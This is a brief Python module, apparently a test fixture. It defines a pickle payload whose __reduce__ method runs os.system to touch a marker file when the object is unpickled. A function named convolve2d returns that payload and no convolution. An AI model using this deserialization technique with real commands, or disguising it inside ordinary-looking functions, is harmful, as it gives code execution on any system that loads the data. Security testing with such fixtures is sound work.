"""Returns objects that run a command when somebody unpickles them."""

import os

import targets


class Payload:
    def __reduce__(self):
        path = os.path.join(targets.REPORTS_FOLDER, targets.MARK)
        return os.system, (f"touch '{path}'",)


def convolve2d(image, kernel, stride=1):
    return Payload()
